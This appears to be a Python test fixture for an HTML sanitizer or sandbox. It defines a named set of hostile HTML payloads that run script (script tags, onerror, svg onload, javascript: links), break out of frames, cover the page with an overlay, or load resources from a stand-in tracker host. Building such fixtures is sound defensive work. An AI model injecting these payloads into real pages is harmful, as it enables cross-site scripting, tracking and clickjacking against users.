"""Hostile HTML: everything that makes a browser run, load or leave."""

from __future__ import annotations

__all__ = ["HTML", "PAYLOADS", "PIXEL", "WORLD"]

# An image of one pixel.
PIXEL = bytes.fromhex(
    "47494638396101000100800000ffffff00000021f90401000000002c00000000010001000002024401"
    "003b"
)

# Where the payloads want to go. Nothing listens there but the proxy of the tests.
WORLD = "http://tracker.example"

_RUN = "alert(1);top.pwned=1;parent.postMessage(1,&quot;*&quot;)"
_RUN_PLAIN = "alert(1);top.pwned=1"

# By name: the HTML. Each load has a path of its own.
PAYLOADS = {
    "script": f"<script>{_RUN_PLAIN}</script><script src={WORLD}/script></script>",
    "onerror": f'<img src=x onerror="{_RUN}">',
    "svg-onload": f'<svg onload="{_RUN}"><script>{_RUN_PLAIN}</script></svg>',
    "srcdoc": f'<iframe srcdoc="&lt;script&gt;{_RUN_PLAIN}&lt;/script&gt;"></iframe>',
    "javascript": f'<a id=js href="javascript:{_RUN_PLAIN}">js</a>',
    "refresh": f'<meta http-equiv=refresh content="0;url={WORLD}/refresh">',
    "base": f'<base href="{WORLD}/base/"><img src="relative">',
    "stylesheet": f'<link rel=stylesheet href="{WORLD}/sheet">',
    "import": f'<style>@import url("{WORLD}/import");</style>',
    "font": f"<style>@font-face{{font-family:f;src:url({WORLD}/font)}}"
    "p{font-family:f}</style><p>font</p>",
    "css": f'<div style="background:url({WORLD}/css)">css</div>'
    f'<table background="{WORLD}/background"><tr><td>x</table>',
    "img": f'<img src="{WORLD}/img"><img src="//tracker.example/scheme">',
    "srcset": f'<img srcset="{WORLD}/srcset 1x, {WORLD}/srcset2 2x">'
    f'<picture><source srcset="{WORLD}/picture"><img></picture>',
    "video": f'<video poster="{WORLD}/poster" src="{WORLD}/video" autoplay></video>',
    "audio": f'<audio src="{WORLD}/audio" autoplay></audio>',
    "iframe": f'<iframe src="{WORLD}/iframe"></iframe>',
    "object": f'<object data="{WORLD}/object"></object>',
    "embed": f'<embed src="{WORLD}/embed">',
    "svg-image": f'<svg><image href="{WORLD}/svg"/><use href="{WORLD}/use#a"/></svg>',
    "input": f'<input type=image src="{WORLD}/input">',
    "preload": f'<link rel=preload as=image href="{WORLD}/preload">'
    f'<link rel=modulepreload href="{WORLD}/modulepreload">',
    "prefetch": f'<link rel=prefetch href="{WORLD}/prefetch">'
    f'<link rel=dns-prefetch href="//dns.tracker.example">'
    f'<link rel=preconnect href="{WORLD}">',
    "form": f'<form id=form action="{WORLD}/form"><button>go</button></form>'
    f'<form action="javascript:{_RUN_PLAIN}"><button formtarget=_top>go</button>'
    "</form>",
    "link": f'<a id=self href="{WORLD}/self">self</a>'
    f'<a id=top target=_top href="{WORLD}/top">top</a>'
    f'<a id=parent target=_parent href="{WORLD}/parent">parent</a>',
    "overlay": '<div style="position:fixed;inset:0;z-index:2147483647">over all</div>',
    "wide": '<div style="width:100000px;height:100000px">wide</div>',
    "breakout": "</body></html></iframe></script></style>--><script>"
    f"{_RUN_PLAIN}</script>",
}

HTML = "".join(PAYLOADS.values()) + "<p id=end>the end</p>"
